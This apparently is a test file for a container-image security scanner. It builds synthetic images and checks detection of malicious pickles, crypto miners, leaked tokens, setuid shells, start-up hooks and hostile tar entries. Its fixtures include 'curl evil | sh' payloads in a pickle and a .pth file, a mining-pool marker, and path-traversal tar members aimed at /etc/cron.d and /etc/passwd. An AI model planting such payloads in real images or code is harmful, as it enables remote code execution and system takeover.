/**
 * Images end to end through `bulwark scan`'s engine: every "done when" case of issue 15 part 2 (each
 * reported with its layer and path), the three input forms (OCI layout folder, docker-archive in its
 * two forms, an OCI layout in a tar), gzip / zstd / plain layers, whiteouts and opaque folders,
 * digests, and hostile tar members.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Finding, ImageLayerLocation, ScanReport } from '../findings/index.js';
import { atLeast } from '../findings/index.js';
import { scan, scanOptions } from '../engine/index.js';
import { pickle } from '../../test-fixtures/pickle-builder.js';
import { safetensorsFile } from '../../test-fixtures/safetensors-builder.js';
import type { ImageSpec } from '../../test-fixtures/oci-image-builder.js';
import { BASE_MEMBERS, DISTROLESS_MEMBERS, HARDENED_CONFIG, buildImage, dockerArchive, ociLayoutTar, writeOciLayout } from '../../test-fixtures/oci-image-builder.js';
import { imagePath } from './scan.js';

const work = mkdtempSync(join(tmpdir(), 'bulwark-image-test-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));
let n = 0;

type Form = 'layout' | 'archive' | 'legacy' | 'layout-tar';

async function scanImageSpec(spec: ImageSpec, form: Form = 'layout', options: Record<string, unknown> = {}): Promise<{ report: ScanReport; path: string }> {
  const img = buildImage(spec);
  const dir = join(work, `img-${n++}`);
  mkdirSync(dir);
  let path: string;
  if (form === 'layout') {
    path = join(dir, 'layout');
    writeOciLayout(path, img);
  } else {
    path = join(dir, 'image.tar');
    writeFileSync(path, form === 'layout-tar' ? ociLayoutTar(img) : dockerArchive(img, { legacy: form === 'legacy' }));
  }
  const report = await scan({ paths: [path] }, scanOptions({ jobs: 1, ...options }));
  return { report, path };
}

const of = (r: ScanReport, id: string): Finding[] => r.findings.filter((f) => f.ruleId === id);
const loc = (f: Finding | undefined): ImageLayerLocation => {
  expect(f?.location.kind).toBe('image-layer');
  return f?.location as ImageLayerLocation;
};

const PAYLOAD = pickle((b) => b.proto(2).call('posix', 'system', 'curl http://evil/x | sh').stop());
const HF_TOKEN = `hf_${'aBcDeFgHiJ'.repeat(4)}`;

describe('done-when cases (each reported with the layer and the path)', () => {
  it('a pickle model with a payload, scanned in-stream by the model scanner', async () => {
    const { report, path } = await scanImageSpec({ config: HARDENED_CONFIG, layers: [{ members: DISTROLESS_MEMBERS }, { members: [{ name: 'models/', type: '5' }, { name: 'models/model.pkl', data: PAYLOAD }] }] });
    const hits = report.findings.filter((f) => f.ruleId.startsWith('pickle/') && f.severity === 'critical');
    expect(hits.length).toBeGreaterThan(0);
    const l = loc(hits[0]);
    expect(l).toMatchObject({ path, layerIndex: 1, file: 'models/model.pkl' });
    expect(l.layer).toMatch(/^sha256:/);
  });

  it('a miner binary (by name, and by pool marker in an executable)', async () => {
    const { report } = await scanImageSpec({ layers: [{ members: BASE_MEMBERS }, { members: [{ name: 'usr/local/bin/xmrig', data: '\x7fELF...', mode: 0o755 }, { name: 'opt/app/worker', data: '\x7fELF...stratum+tcp://pool.example:3333...', mode: 0o755 }] }] });
    const hits = of(report, 'image/miner-binary');
    expect(hits.map((h) => loc(h).file).sort()).toEqual(['opt/app/worker', 'usr/local/bin/xmrig']);
    expect(hits.every((h) => loc(h).layerIndex === 1 && h.severity === 'critical')).toBe(true);
  });

  it('a token deleted in a later layer is still reported, in the layer that holds it', async () => {
    const { report } = await scanImageSpec({
      layers: [{ members: BASE_MEMBERS }, { members: [{ name: 'root/', type: '5' }, { name: 'root/.cache/huggingface/token', data: HF_TOKEN }, { name: 'app/settings.py', data: `OPENAI_API_KEY = "sk-proj-${'a1B2c3D4e5'.repeat(3)}"\n` }] }, { members: [{ name: 'root/.cache/huggingface/.wh.token' }] }],
    });
    const hits = of(report, 'image/secret-in-layer');
    const token = hits.find((h) => loc(h).file === 'root/.cache/huggingface/token');
    expect(loc(token).layerIndex).toBe(1);
    expect(token?.message).toContain('deleted in layer 2, but still in layer 1');
    expect(token?.severity).toBe('critical');
    expect(token?.evidence).not.toContain(HF_TOKEN);
    const key = hits.find((h) => loc(h).file === 'app/settings.py');
    expect(key?.message).toContain('OpenAI');
    expect(key?.message).not.toContain('deleted');
  });

  it('a setuid shell', async () => {
    const { report } = await scanImageSpec({ layers: [{ members: BASE_MEMBERS }, { members: [{ name: 'usr/local/bin/rootsh', data: '\x7fELF', mode: 0o4755 }, { name: 'usr/local/bin/bash', data: '\x7fELF', mode: 0o4755 }] }] });
    const hits = of(report, 'image/setuid-binary');
    const shell = hits.find((h) => loc(h).file === 'usr/local/bin/bash');
    expect(shell?.severity).toBe('high');
    expect(loc(shell).layerIndex).toBe(1);
    expect(hits.find((h) => loc(h).file === 'usr/local/bin/rootsh')?.severity).toBe('medium');
  });

  it('a .pth start-up hook (and not setuptools\' distutils-precedence.pth)', async () => {
    const site = 'usr/lib/python3/dist-packages';
    const { report } = await scanImageSpec({
      layers: [{ members: [{ name: `${site}/evil.pth`, data: "/opt/x\nimport os; os.system('curl evil | sh')\n" }, { name: `${site}/distutils-precedence.pth`, data: "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'\n" }, { name: `${site}/paths.pth`, data: '/opt/lib\n' }] }],
    });
    const hits = of(report, 'image/pth-startup-hook');
    expect(hits.map((h) => loc(h).file)).toEqual([`${site}/evil.pth`]);
    expect(loc(hits[0]).line).toBe(2);
  });

  it('a disguised "pytorch" image (the name says PyTorch, no torch package)', async () => {
    const { report } = await scanImageSpec({ name: 'docker.io/pytorch/pytorch:2.3.0-cuda12.1', config: { Entrypoint: ['/tmp/.x/run.sh'] }, layers: [{ members: BASE_MEMBERS }, { members: [{ name: 'tmp/.x/run.sh', data: '#!/bin/sh\n./xmr\n', mode: 0o755 }] }] }, 'archive');
    const hits = of(report, 'image/disguised-ai-image');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.message).toContain('PyTorch');
    expect(hits[0]?.message).toContain('no torch Python package');
    expect(of(report, 'image/entrypoint-writable-script')[0]?.message).toContain('/tmp/.x/run.sh');
    expect(loc(of(report, 'image/binary-in-tmp')[0]).file).toBe('tmp/.x/run.sh');
  });

  it('a real "pytorch" image with torch installed is not disguised', async () => {
    const { report } = await scanImageSpec({ name: 'pytorch/pytorch:2.3.0', config: { Cmd: ['python3'] }, layers: [{ members: [...BASE_MEMBERS, { name: 'opt/conda/lib/python3.11/site-packages/torch/__init__.py', data: '# torch\n' }] }] });
    expect(of(report, 'image/disguised-ai-image')).toEqual([]);
  });

  it('a distroless-style image with a safetensors model reports nothing at medium or above', async () => {
    const st = safetensorsFile([{ name: 'w', dtype: 'F32', shape: [4, 4] }]);
    for (const form of ['layout', 'archive', 'legacy', 'layout-tar'] as const) {
      const { report, path } = await scanImageSpec({ config: HARDENED_CONFIG, layers: [{ members: DISTROLESS_MEMBERS, compression: 'zstd' }, { members: [{ name: 'app/', type: '5' }, { name: 'app/serve.py', data: 'print("ok")\n' }, { name: 'app/model.safetensors', data: st }] }] }, form);
      expect(report.findings.filter((f) => atLeast(f.severity, 'medium')).map((f) => `${f.ruleId}: ${f.message}`), form).toEqual([]);
      expect(report.targets.find((t) => t.path === path)?.status, form).toBe('complete');
    }
  });
});

describe('layers', () => {
  it('reads gzip, zstd and plain layers alike, and applies opaque folders', async () => {
    const { report } = await scanImageSpec({
      layers: [
        { members: [{ name: 'etc/', type: '5' }, { name: 'etc/app/', type: '5' }, { name: 'etc/app/id_rsa', data: '-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n' }], compression: 'zstd' },
        { members: [{ name: 'etc/app/.wh..wh..opq' }, { name: 'etc/app/config', data: 'x=1\n' }], compression: 'none' },
        { members: [{ name: 'bin/bash', data: '\x7fELF', mode: 0o755 }], compression: 'gzip' },
      ],
    });
    const key = of(report, 'image/secret-in-layer')[0];
    expect(loc(key)).toMatchObject({ layerIndex: 0, file: 'etc/app/id_rsa' });
    expect(key?.message).toContain('private key');
    expect(key?.message).toContain('deleted in layer 1');
    expect(loc(of(report, 'image/shell-present')[0])).toMatchObject({ layerIndex: 2, file: 'bin/bash' });
  });

  it('a layer whose bytes do not match its digest is a critical finding', async () => {
    const { report, path } = await scanImageSpec({ layers: [{ members: BASE_MEMBERS }, { members: [{ name: 'a', data: 'b' }], tamper: true }] });
    const hit = report.findings.find((f) => f.ruleId === 'oci/blob-digest-mismatch');
    expect(hit?.severity).toBe('critical');
    expect(loc(hit).layerIndex).toBe(1);
    expect(report.targets.find((t) => t.path === path)?.status).toBe('partial');
  });

  it('a legacy docker-archive layer is checked against the config diff id', async () => {
    const img = buildImage({ layers: [{ members: BASE_MEMBERS }] });
    const tar = Buffer.from(dockerArchive(img, { legacy: true }));
    // Change one byte of the layer's file content (bin/sh data) without touching any tar header.
    const at = tar.indexOf('\x7fELF shell');
    tar[at + 5] = 'X'.charCodeAt(0);
    const p = join(work, `tampered-${n++}.tar`);
    writeFileSync(p, tar);
    const report = await scan({ paths: [p] }, scanOptions({ jobs: 1 }));
    expect(report.findings.find((f) => f.ruleId === 'oci/blob-digest-mismatch')?.message).toContain('diff id');
  });

  it('config checks: root user, secret in Env, AI ports, no health check', async () => {
    const { report } = await scanImageSpec({ config: { Env: [`HF_TOKEN=${HF_TOKEN}`, 'DB_PASSWORD=s3cr3t-passw0rd', 'PATH=/usr/bin:/bin'], ExposedPorts: { '8888/tcp': {}, '8000/tcp': {} } }, layers: [{ members: BASE_MEMBERS }] });
    expect(of(report, 'image/root-user')).toHaveLength(1);
    expect(of(report, 'image/secret-in-config-env').map((f) => f.severity).sort()).toEqual(['critical', 'high']);
    expect(of(report, 'image/ai-port-exposed').map((f) => f.severity).sort()).toEqual(['low', 'medium']);
    expect(of(report, 'image/no-healthcheck')).toHaveLength(1);
    expect(of(report, 'image/package-manager-present')[0]?.message).toContain('apt');
  });

  it('a world-writable PATH folder, a .git folder, a binary in /tmp', async () => {
    const { report } = await scanImageSpec({ config: { Env: ['PATH=/opt/tools:/usr/bin'] }, layers: [{ members: [{ name: 'opt/tools/', type: '5', mode: 0o777 }, { name: 'app/.git/', type: '5' }, { name: 'app/.git/config', data: '[core]\n' }, { name: 'tmp/x', data: '\x7fELF', mode: 0o644 }] }] });
    expect(loc(of(report, 'image/world-writable-path-dir')[0]).file).toBe('opt/tools');
    expect(of(report, 'image/git-folder').map((f) => loc(f).file)).toEqual(['app/.git']);
    expect(of(report, 'image/binary-in-tmp').map((f) => loc(f).file)).toEqual(['tmp/x']);
  });

  it('production policy raises shells and package managers to medium', async () => {
    const { report } = await scanImageSpec({ layers: [{ members: BASE_MEMBERS }] }, 'layout', { policy: 'production' });
    expect(of(report, 'image/shell-present')[0]?.severity).toBe('medium');
    expect(of(report, 'image/package-manager-present')[0]?.severity).toBe('medium');
  });
});

describe('hostile tar members are findings, never followed or written', () => {
  it('../, absolute paths, hard links out of the image, device nodes, huge headers', async () => {
    const { report, path } = await scanImageSpec({
      layers: [
        {
          members: [
            { name: '../../etc/cron.d/evil', data: '* * * * * root sh\n' },
            { name: '/etc/passwd', data: 'root::0:0::/:/bin/sh\n' },
            { name: 'etc/shadow-link', type: '1', linkName: '../../../etc/shadow' },
            { name: 'dev/sda', type: '4' },
            { name: 'dev/mem', type: '3' },
            { name: 'big', data: 'x', pax: { comment: 'A'.repeat(2 * 1024 * 1024) } },
            { name: 'ok.txt', data: 'fine' },
          ],
        },
      ],
    });
    const hits = of(report, 'image/unsafe-layer-entry');
    const text = hits.map((h) => h.message).join('\n');
    expect(text).toContain('`..` path that leaves the image root');
    expect(text).toContain('absolute path');
    expect(text).toContain('hard link');
    expect(text).toContain('block device');
    expect(text).toContain('character device');
    expect(text).toContain('pax header');
    expect(report.targets.find((t) => t.path === path)).toBeDefined();
  });

  it('imagePath normalises names and refuses escapes', () => {
    expect(imagePath('./usr/bin/x')).toEqual({ path: 'usr/bin/x', absolute: false });
    expect(imagePath('/etc/passwd')).toEqual({ path: 'etc/passwd', absolute: true });
    expect(imagePath('a/../../b')).toBeUndefined();
    expect(imagePath('a/./b/../c')).toEqual({ path: 'a/c', absolute: false });
  });

  it('a truncated layer makes the image partial', async () => {
    const img = buildImage({ layers: [{ members: [{ name: 'a', data: 'x'.repeat(5000) }], compression: 'none' }] });
    const l = img.layers[0];
    if (l === undefined) throw new Error('no layer');
    const cut = { ...img, layers: [{ ...l, tar: l.tar.subarray(0, 2048) }] };
    const p = join(work, `trunc-${n++}.tar`);
    writeFileSync(p, dockerArchive(cut, { legacy: true }));
    const report = await scan({ paths: [p] }, scanOptions({ jobs: 1 }));
    expect(report.targets.find((t) => t.path === p)?.status).toBe('partial');
    expect(report.findings.some((f) => f.ruleId === 'scan/malformed-input' && f.message.includes('ends inside a member'))).toBe(true);
  });
});
